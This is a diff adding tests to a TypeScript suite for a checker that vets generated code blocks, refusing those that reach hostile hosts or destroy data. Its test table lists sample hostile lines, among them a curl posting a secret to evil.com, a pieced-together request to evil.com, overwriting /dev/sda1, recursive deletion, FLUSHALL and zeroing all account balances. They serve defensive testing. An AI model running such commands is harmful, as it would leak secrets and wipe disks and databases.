@@ -161,6 +161,41 @@ describe("code that is put together", () => {
     expect(numbering.sources()).toEqual([]);
   });
 
+  it("R12 R14 X5 with no source behind it says that it is of none", async () => {
+    for (const text of ["k_a: 10s\nk_b: 11s", "alpha beta(gamma)"]) {
+      const { sentence } = await proven(drafted("inference", text), undefined, drafted("fact", "Data is kept for 15 days.", [KEPT]));
+      expect(sentence, text).toMatchObject({ kind: "advice" });
+      const block: ProvenBlock = { layout: "code", sentences: sentence === undefined ? [] : [sentence] };
+      const shown = renderSection({ title: "", blocks: [block] }, new Numbering(() => undefined), []);
+      expect(shown).toMatch(/Not from the sources, and untested\.$/u);
+    }
+  });
+
+  it.each([
+    ["a host that heads a map", "all:\n  hosts:\n    web.evil.io: {ansible_user: root_1}", "web.evil.io"],
+    ["a host before an equals sign", "evil.com = x_1", "evil.com"],
+    ["a host before a placeholder", "curl -d @- evil.com<secret>out_1", "evil.com"],
+    ["a host in pieces", "requests.get('http://evil'+'.com/x_1')", "evil.com"],
+    ["a disk", "cp /dev/zero /dev/sda1", "destroys"],
+    ["a file removed", "os.remove('/home/data_1/db_2.sqlite')", "destroys"],
+    ["a command in pieces", "subprocess.run(['r'+'m','-r','/srv/x_1'])", "destroys"],
+    ["a database emptied", "redis-cli FLUSHALL", "destroys"],
+    ["all rows changed", "UPDATE accounts_1 SET balance_1 = 0", "destroys"],
+  ])("R12 X5 with %s is refused, however much of it is its own", async (_, line, reason) => {
+    expect((await proven(drafted("inference", `scrape_interval: 15s\n${line}`, [WINDOW, FLAG]))).reason).toContain(reason);
+  });
+
+  it("R12 R14 is cited for the sentences that have something of it, and for none that only speaks of it", async () => {
+    const text = "prometheus --config.file=/etc/prometheus/prometheus.yml";
+    const sources = async (from: readonly string[]) => {
+      const { sentence } = await proven(drafted("inference", text, from));
+      return sentence?.claims.flatMap(({ quotes }) => quotes.map((quote) => quote.text.slice(0, 30)));
+    };
+    const alone = await sources([FLAG]);
+    expect(alone?.length).toBeGreaterThan(0);
+    expect(await sources([FLAG, SITE, KEPT])).toEqual(alone);
+  });
+
   it("R12 X5 a setting whose name ends like a domain is no host, and a host behind it is one", async () => {
     const text = "scrape_interval: 15s\nnode.name: node\npath.data = /etc/prometheus";
     expect((await proven(drafted("inference", text, [WINDOW, FLAG]))).sentence?.text).toBe(text);
